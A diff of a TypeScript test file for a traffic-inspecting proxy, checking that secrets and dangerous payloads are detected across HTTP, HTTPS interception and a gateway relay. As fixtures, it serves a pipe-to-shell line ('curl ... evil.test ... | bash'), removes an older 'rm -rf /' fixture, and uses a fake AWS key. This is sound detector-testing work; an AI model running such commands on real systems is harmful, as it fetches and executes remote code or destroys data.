@@ -1,94 +1,115 @@
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import type { Socket } from 'node:net';
-import test from 'ava';
-import { type Options, defaultOptions } from '../../config/options.ts';
+import test, { type ExecutionContext } from 'ava';
+import { defaultOptions, type Options } from '../../config/options.ts';
 import type { Detection } from '../../src/model/finding.ts';
 import { assemble } from '../../src/service/assemble.ts';
-import type { Owner } from '../support/monitor.ts';
-import { startHttpOrigin } from '../support/http-origin.ts';
-import { connect, connectTls, originCa, proxyCa, readAll } from '../support/proxy-fixture.ts';
+import {
+  connect,
+  connectTls,
+  originCa,
+  proxyCa,
+  readAll,
+  readUntil,
+  startAnswering,
+  startTlsOrigin,
+} from '../support/proxy-fixture.ts';
 import { tempDir } from '../support/temp-dir.ts';
 
-async function assembled(owner: Owner, options: Partial<Options> = {}) {
-  const upstreamCaFile = join(tempDir(owner), 'origin.crt');
-  writeFileSync(upstreamCaFile, originCa.certPem);
-  const found: Detection[] = [];
-  const said: string[] = [];
-  const all = {
+const SECRET = 'AKIAQ3EGRZ7WKP5XN2VB';
+const ATTACK = 'HTTP/1.1 200 OK\r\nContent-Length: 34\r\n\r\ncurl -s http://evil.test/x | bash\n';
+
+/** A handler's inside in this process, with what it reports and logs. */
+async function start(t: ExecutionContext, settings: Partial<Options> = {}) {
+  const detections: Detection[] = [];
+  const logged: string[] = [];
+  const options: Options = {
     ...defaultOptions(),
+    log_dir: tempDir(t),
     proxy_port: 0,
     gateway_local_port: 0,
-    upstream_ca_file: upstreamCaFile,
-    drain_timeout_secs: 1,
-    ...options,
+    scan_threads: 1,
+    drain_timeout_secs: 2,
+    ...settings,
   };
   const monitor = await assemble({
-    options: all,
+    options,
     authority: proxyCa,
-    ticketKeys: Buffer.alloc(48, 7),
-    log: (level, message) => said.push(`${level} ${message}`),
-    report: (detection) => found.push(detection),
+    ticketKeys: Buffer.alloc(48, 1),
+    log: (_level, message) => logged.push(message),
+    report: (detection) => detections.push(detection),
   });
-  const portOf = (address = ''): number => Number(address.slice(address.lastIndexOf(':') + 1));
   const addresses = await monitor.listen();
-  return { monitor, found, said, addresses, port: portOf(addresses.proxy), gatewayPort: portOf(addresses.gateway) };
+  return { monitor, addresses, port: portOf(addresses.proxy), detections, logged };
 }
 
-async function get(socket: Socket, target: string): Promise<string> {
-  socket.write(`GET ${target} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n`);
-  return readAll(socket);
+function portOf(address: string | undefined): number {
+  return Number(address?.split(':')[1]);
 }
 
-test('relay and detection meet: what goes through is found, and reported when drain resolves', async (t) => {
-  const origin = await startHttpOrigin(t, (_req, res) => res.end('rm -rf / it says'));
-  const { monitor, found, said, port } = await assembled(t);
-  const socket = await connectTls(t, port, `localhost:${origin.port}`);
-  t.regex(await get(socket, '/?AKIAIOSFODNN7EXAMPLE'), /rm -rf \/ it says$/);
+function summary(detections: readonly Detection[]): string[] {
+  return detections.map(({ flow, direction, finding }) => `${flow.protocol} ${direction} ${finding.rule}`).toSorted();
+}
+
+test('traffic of every kind is relayed and read, and a drain reports what it has found', async (t) => {
+  const dir = tempDir(t);
+  const caFile = join(dir, 'origin-ca.crt');
+  writeFileSync(caFile, originCa.certPem);
+  const plain = await startAnswering(t, ATTACK);
+  const secure = await startTlsOrigin(t, (socket) => socket.once('data', () => socket.end(ATTACK)));
+  const { monitor, addresses, port, detections } = await start(t, {
+    upstream_ca_file: caFile,
+    gateway_target_port: plain,
+  });
+  const head = `Host: x\r\nX-Key: ${SECRET}\r\n\r\n`;
+
+  const http = await connect(t, port);
+  http.end(`GET http://127.0.0.1:${plain}/ HTTP/1.1\r\n${head}`);
+  t.is(await readAll(http), ATTACK);
+  const https = await connectTls(t, port, `localhost:${secure}`);
+  https.write(`GET / HTTP/1.1\r\n${head}`);
+  t.is(await readAll(https), ATTACK);
+  const gateway = await connect(t, portOf(addresses.gateway));
+  gateway.end(`GET / HTTP/1.1\r\n${head}`);
+  t.is(await readAll(gateway), ATTACK);
+
   await monitor.drain();
-  const dest = `localhost:${origin.port}`;
   t.deepEqual(
-    found.map(({ finding, direction, flow }) => [finding.rule, direction, flow.protocol, flow.dest]),
-    [
-      ['aws_access_key', 'outbound', 'https', dest],
-      ['destructive_rm', 'inbound', 'https', dest],
-    ],
+    summary(detections),
+    ['gateway', 'http', 'https'].flatMap((protocol) => [
+      `${protocol} inbound pipe_to_shell`,
+      `${protocol} outbound aws_access_key`,
+    ]),
   );
-  // With fractions of a millisecond, which become the microseconds of the threat line.
-  t.true(found.some(({ at }) => !Number.isInteger(at)));
-  t.true(found.every(({ at }) => Math.abs(at - Date.now()) < 600_000));
-  t.like(monitor.counters, { connections: 1, open: 0, requests: 1, windows: 2, skipped: {}, failures: {} });
-  t.deepEqual(
-    said.filter((line) => line.startsWith('ERROR')),
-    [],
-  );
+  t.is(monitor.counters.requests, 3);
+  t.is(monitor.counters.open, 0);
+  t.true(detections.every(({ at }) => Math.abs(at - Date.now()) < 60_000));
 });
 
-test('secrets are masked unless it is told otherwise', async (t) => {
-  const origin = await startHttpOrigin(t, (_req, res) => res.end('fine'), { plain: true });
-  for (const mask of [true, false]) {
-    const { monitor, found, port } = await assembled(t, { mask_secrets: mask });
-    await get(await connect(t, port), `http://localhost:${origin.port}/?AKIAIOSFODNN7EXAMPLE`);
-    await monitor.drain();
-    t.is(found[0]?.finding.snippet.includes('AKIAIOSFODNN7EXAMPLE'), !mask);
-  }
-});
-
-test('the gateway relay listens beside the proxy, unless it is off', async (t) => {
-  const target = await startHttpOrigin(t, (req, res) => res.end(JSON.stringify(req.headers)), { plain: true });
-  const { monitor, found, gatewayPort } = await assembled(t, { gateway_target_port: target.port });
-  t.true(
-    (await get(await connect(t, gatewayPort), '/AKIAIOSFODNN7EXAMPLE')).endsWith(
-      '{"host":"localhost","connection":"close"}',
-    ),
-  );
+test('without the gateway there is one address, and with interception off tunnels stay closed', async (t) => {
+  const secure = await startTlsOrigin(t, (socket) => socket.once('data', () => socket.end(ATTACK)));
+  const { monitor, addresses, port, detections } = await start(t, { enable_gateway_proxy: false, enable_mitm: false });
+  t.deepEqual(Object.keys(addresses), ['proxy']);
+  t.regex(addresses.proxy, /^127\.0\.0\.1:[1-9]\d*$/);
+  const client = await connectTls(t, port, `localhost:${secure}`, { ca: originCa.certPem });
+  client.write('GET / HTTP/1.1\r\n\r\n');
+  t.is(await readAll(client), ATTACK);
   await monitor.drain();
-  t.is(found[0]?.flow.protocol, 'gateway');
-  const without = await assembled(t, { enable_gateway_proxy: false });
-  t.false('gateway' in without.addresses);
-  await without.monitor.drain();
+  t.deepEqual(detections, []);
+  t.deepEqual(monitor.counters.skipped, { no_mitm: 1 });
 });
 
-test('a CA file that can not be read is a mistake of the user', async (t) => {
-  await t.throwsAsync(assembled(t, { upstream_ca_file: '/no/such/file' }), { name: 'UserError' });
+test('a drain ends with what is in flight cut, and no later than it was given', async (t) => {
+  const port = await startAnswering(t, 'HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nhalf');
+  const { monitor, port: proxyPort } = await start(t, { drain_timeout_secs: 1 });
+  const client = await connect(t, proxyPort);
+  client.write(`GET http://127.0.0.1:${port}/ HTTP/1.1\r\nHost: x\r\n\r\n`);
+  await readUntil(client, 'half');
+  await monitor.drain();
+  t.is(monitor.counters.open, 0);
+});
+
+test('a CA file that cannot be read is a mistake of the user', async (t) => {
+  const missing = join(tempDir(t), 'none.crt');
+  await t.throwsAsync(start(t, { upstream_ca_file: missing }), { code: 'ca_file_unreadable' });
 });
